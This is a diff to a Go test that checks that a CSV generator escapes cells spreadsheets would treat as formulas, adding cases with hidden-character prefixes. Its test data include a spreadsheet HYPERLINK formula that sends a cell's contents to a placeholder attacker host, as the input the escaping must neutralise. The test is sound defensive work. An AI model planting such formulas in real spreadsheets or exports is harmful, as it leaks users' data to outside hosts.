@@ -136,7 +136,7 @@ func TestListOfObjects(t *testing.T) {
 // A cell that a spreadsheet would take for a formula is a text in the file.
 func TestCSV(t *testing.T) {
 	body, err := json.Marshal(generators.Table{Columns: []string{"=cmd", "b"}, Rows: [][]any{
-		{`=HYPERLINK("http://evil.example/?"&A1)`, -5}, {"+49 30 1", "-2.5"}, {"@x", "-x"}, {"\ty", "+1e3"}, {"＝x", nil}, {"a,\"b\"\nc", true},
+		{`=HYPERLINK("http://evil.example/?"&A1)`, -5}, {"+49 30 1", "-2.5"}, {"@x", "-x"}, {"\ty", "+1e3"}, {"＝x", nil}, {"a,\"b\"\nc", true}, {"\ufeff=x", "\u200b\x00+x"},
 	}})
 	if err != nil {
 		t.Fatal(err)
@@ -146,7 +146,7 @@ func TestCSV(t *testing.T) {
 		t.Fatal(err)
 	}
 	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
-	want := [][]string{{"'=cmd", "b"}, {`'=HYPERLINK("http://evil.example/?"&A1)`, "-5"}, {"'+49 30 1", "-2.5"}, {"'@x", "'-x"}, {"'\ty", "+1e3"}, {"'＝x", ""}, {"a,\"b\"\nc", "true"}}
+	want := [][]string{{"'=cmd", "b"}, {`'=HYPERLINK("http://evil.example/?"&A1)`, "-5"}, {"'+49 30 1", "-2.5"}, {"'@x", "'-x"}, {"'\ty", "+1e3"}, {"'＝x", ""}, {"a,\"b\"\nc", "true"}, {"'\ufeff=x", "'\u200b\x00+x"}}
 	if err != nil || !reflect.DeepEqual(got, want) {
 		t.Errorf("%v\n%q, want\n%q", err, got, want)
 	}
